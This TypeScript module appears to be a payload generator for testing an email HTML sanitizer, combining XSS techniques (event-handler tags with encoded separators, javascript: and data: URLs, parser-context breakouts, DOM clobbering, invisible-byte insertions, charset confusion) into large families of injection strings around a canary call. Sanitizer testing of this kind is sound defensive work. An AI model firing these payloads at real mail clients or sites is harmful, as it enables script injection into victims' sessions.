import { call, inData, js, pairs, svgData } from './mail-canary.ts'
import { overlays, requests, sheets } from './mail-payloads-styles.ts'

const entities = (text: string, write: (code: number) => string) =>
  [...text].map((letter) => write(letter.charCodeAt(0))).join('')
const decimal = (text: string) => entities(text, (code) => `&#${code};`)
const bareHex = (text: string) => entities(text, (code) => `&#x${code.toString(16)}`)
const padded = (text: string) => entities(text, (code) => `&#${String(code).padStart(7, '0')}`)

const between = ' |\t|\n|\f|\r|/|//|\0|\v|\u00a0|/x/|"x"|\'\'|`|=|<b '.split('|')
const quotes = [
  (text: string) => text,
  (text: string) => `"${text}"`,
  (text: string) => `'${text}'`,
  (text: string) => `\`${text}\``,
  (text: string) => `\n"${text}`,
  (text: string) => `"${decimal(text)}"`,
  (text: string) => bareHex(text),
  (text: string) => `'${padded(text)}'`,
]
const spelled = () => pairs(between, quotes, (gap, quote) => `<img src=x${gap}onerror=${quote(call)}>`)

const elements =
  'img src=x|svg|body|video src=x|audio src=x|iframe|input autofocus|details open|marquee|object data=x|embed src=x|link rel=stylesheet href=x|style|script src=x|a href=# autofocus tabindex=0|div tabindex=0 autofocus|table|font|math|select autofocus|textarea autofocus|button autofocus|form|frameset|bgsound src=x|image src=x|custom-tag autofocus tabindex=0|dialog open|meter autofocus tabindex=0|search'.split(
    '|',
  )
const events = 'onload|onerror|onfocus|ontoggle|onstart|onAnimationStart|onpageshow|onbegin|onpointerrawupdate'.split(
  '|',
)
const handled = () =>
  pairs(elements, events, (element, event) => `<${element} style="animation:x 1ms" ${event}=${call}>x</${element}>`)

const holders: ((address: string) => string)[] = [
  (address) => `<a href="${address}">a</a>`,
  (address) => `<a href='https://shop.example' href='${address}'>a</a>`,
  (address) => `<area shape=default href="${address}">`,
  (address) => `<img src="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button autofocus>b</button></form>`,
  (address) => `<button form=f formaction="${address}">b</button>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>a</text></a></svg>`,
  (address) => `<svg><animate attributeName=href to="${address}"/></svg>`,
  (address) => `<math><mi href="${address}">a</mi></math>`,
  (address) => `<base href="${address}//">`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0; url=${address}">`,
  (address) => `<body background="${address}">`,
  (address) => `<input type=image src="${address}">`,
]
const addresses = [
  js,
  decimal(js),
  bareHex(js),
  js.replace('s', '&NewLine;s'),
  js.replace(':', '&colon;'),
  js.replace('java', 'jAvA\0'),
  ` &#1;\u00a0${js}`,
  js.replace('script', '\tscr\nipt'),
  `${js.replace(':', '&#58;')}//https://shop.example`,
  `javascript://https://shop.example/%0a${call}`,
  inData,
  `data:;base64,${Buffer.from(`<script>${call}</script>`).toString('base64')}`,
  `data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>${call}</script></x>`,
  svgData,
  `https://shop.example/" onmouseover="${call}`,
]
const addressed = () => pairs(holders, addresses, (holder, address) => holder(address))

const contexts =
  'svg|math|noscript|template|title|textarea|style|xmp|noembed|noframes|iframe|select|table|form|math><mtext|svg><desc|svg><foreignObject|svg><title|math><annotation-xml encoding="text/html"|frameset|listing|option|button|caption|p|a|dialog|svg><style|math><mglyph|table><caption|object|applet|marquee|ruby><rtc'.split(
    '|',
  )
const nameOf = (context: string) => /[\w-]+/.exec(context.split('<').at(-1)!)![0]
const breaks: ((context: string) => string)[] = [
  (context) => `<${context}><style><img src=x onerror=${call}></style></${nameOf(context)}>`,
  (context) => `<${context}><a title="</${nameOf(context)}><img src=x onerror=${call}>">x</a>`,
  (context) => `<${context}><!--</${nameOf(context)}><img src=x onerror=${call}>-->`,
  (context) => `<${context}>&lt;/${nameOf(context)}&gt;&lt;img src=x onerror=${call}&gt;</${nameOf(context)}>`,
  (context) => `<${context}></p></table><${context}><img title="--><img src=x onerror=${call}>">`,
  (context) => `<${context}><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  (context) => `<${context}><![CDATA[</${nameOf(context)}><img src=x onerror=${call}>]]>`,
  (context) => `<form><${context}></form><form><${context}><script>${call}</script>`,
]
const nested = () => pairs(contexts, breaks, (context, broken) => broken(context))

const clobbered =
  'body|head|cookie|location|parent|top|domain|forms|documentElement|defaultView|getElementById|attributes|firstChild|childNodes|createElement|querySelectorAll'
    .split('|')
    .flatMap((name) => [
      `<img name=${name} id=${name}>`,
      `<form id=${name} name=${name}><input name=${name}><input name=attributes></form>`,
      `<a id=${name} name=${name} href="${js}">x</a><a id=${name}>y</a>`,
      `<iframe name=${name} srcdoc="<b id=${name}>"></iframe>`,
      `<object name=${name} id=${name}></object><embed name=${name}>`,
    ])

const targets = pairs(
  ['_top', '_parent', '_self', '_TOP', '\t_blank', 'fired', ''],
  ['', 'rel=opener', 'rel="noreferrer opener"', 'rel=x target=_top'],
  (target, rel) => `<a href="https://shop.example/" target="${target}" ${rel}>x</a>`,
)

/** A byte that some readers skip, at each place of a tag that runs something. */
const skipped = () =>
  pairs(['\0', '\u00ad', '\u200b'], [0, 1, 2, 3, 4, 5, 6, 7, 8], (byte, at) => {
    const tag = `<script>${call}</script>`
    return tag.slice(0, at) + byte + tag.slice(at)
  })

const charsets = pairs(
  ['utf-7', 'utf-16le', 'utf-16be', 'utf-32', 'iso-2022-jp', 'hz-gb-2312', 'x-mac-roman', 'us-ascii', 'x-user-defined'],
  [
    `+ADw-img src=x onerror+AD0-${call}+AD4-`,
    `\x1b$@<img title="\x1b(B" src=x onerror=${call}>`,
    [...`<img src=x onerror=${call}>`].join('\0'),
    `\ufeff\xbcscript\xbe${call}\xbc/script\xbe`,
    `~{<img title="~}" src=x onerror=${call}>`,
  ],
  (charset, body) =>
    `<meta charset=${charset}><meta http-equiv=content-type content="text/html; charset=${charset}">${body}`,
)

/** Whole families, each way to hide a thing with each place to hide it in. */
export const made = (at: string) => [
  ...spelled(),
  ...handled(),
  ...addressed(),
  ...nested(),
  ...clobbered,
  ...targets,
  ...skipped(),
  ...charsets,
  ...requests(at),
  ...sheets(at),
  ...overlays(),
]
